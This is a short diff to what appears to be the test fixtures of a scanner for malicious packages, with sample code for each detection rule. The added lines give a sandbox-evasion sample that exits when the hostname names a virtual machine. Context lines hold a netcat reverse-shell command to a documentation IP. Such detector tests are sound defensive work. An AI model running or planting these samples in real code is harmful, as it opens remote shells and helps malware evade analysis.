@@ -199,6 +199,13 @@ HITS = [
         ).read():
             os._exit(0)
         """), "import", "high"),
+    ("static.sandbox_evasion", "x/__init__.py",
+     dedent("""
+        import platform
+        VMS = ["vbox", "vmware", "qemu"]
+        if any(v in platform.node().lower() for v in VMS):
+            raise SystemExit
+        """), "import", "high"),
     ("static.reverse_shell", "tests/test_x.py",
      "import os\nos.system('nc -e /bin/sh 203.0.113.9 4444')\n", "tests", "low"),
     ("static.reverse_shell", "x/__main__.py",
